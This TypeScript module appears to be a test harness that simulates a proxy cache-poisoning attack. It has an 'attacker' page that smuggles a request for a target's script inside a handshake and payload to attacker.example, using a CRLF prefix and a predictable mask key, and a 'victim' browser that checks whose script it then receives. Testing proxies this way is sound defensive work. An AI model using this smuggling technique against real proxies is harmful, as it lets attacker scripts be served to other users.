/** The attacker's page in a browser behind the proxy, and the browser of its victim there. */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import type { Duplex } from "node:stream";
import { connect as connectTls } from "node:tls";
import { responseBytes } from "./http-head.ts";
import { Incoming } from "./incoming.ts";
import { masked, openingOf, type Protocol, predictableKey, wireBytes } from "./protocols.ts";
import { type Author, authorOf, scriptRequest, scriptResponse } from "./scripts.ts";
import { wishOf } from "./servers.ts";
import { clientTls } from "./tls.ts";

const host = "127.0.0.1";
const attackerHost = "attacker.example";

/**
 * What the page has its browser send, so that a proxy reads a request to `target` in it. The line before ends whatever
 * the browser puts in front. Against a mask, the page counts on the key that it knows, which is all it can do.
 */
export function spelled(target: string, { mask }: Protocol): Buffer {
  const request = Buffer.concat([Buffer.from("\r\n"), scriptRequest(target)]);
  return mask === "none" ? request : masked(request, predictableKey);
}

/** Opens a connection to the attacker's server, through the proxy, and has the script of `target` asked for over it. */
export async function attack(port: number, protocol: Protocol, target: string): Promise<void> {
  const socket = connect({ host, port, noDelay: true });
  try {
    const stream = await secured(socket, protocol);
    const incoming = new Incoming(stream);
    const bytes = wireBytes(protocol, spelled(target, protocol));
    const opening = openingOf(protocol.handshake, attackerHost, wishOf(target, bytes.length));
    if (opening !== undefined) {
      stream.write(opening.request);
      const answer = await incoming.take("the answer to the handshake", () => opening.answer.length);
      if (!answer.equals(opening.answer))
        throw new Error(`expected ${opening.answer.toString("latin1")}, got ${answer.toString("latin1")}`);
    }
    stream.write(bytes);
    // The proxy has read all of it before the answer passes.
    const { length } = scriptResponse(target, "attacker");
    const author = authorOf(await incoming.take("the attacker's script", () => length), target);
    if (author !== "attacker") throw new Error(`expected the attacker's script, got that of the ${author}`);
  } finally {
    // A reset leaves no port waiting for a minute behind.
    socket.resetAndDestroy();
  }
}

async function secured(socket: Socket, { tls }: Protocol): Promise<Duplex> {
  if (!tls) return socket;
  const secure = connectTls({ socket, ...clientTls });
  await once(secure, "secureConnect");
  return secure;
}

/** A browser with a connection to the targets' server, through the proxy, that it keeps. */
export class Victim {
  readonly #incoming: Incoming;

  constructor(port: number) {
    this.#incoming = new Incoming(connect({ host, port, noDelay: true }));
  }

  /** Asks for the script of `target`; says whose it got. */
  async ask(target: string): Promise<Author> {
    this.#incoming.write(scriptRequest(target));
    return authorOf(await this.#incoming.take("a script", responseBytes), target);
  }
}
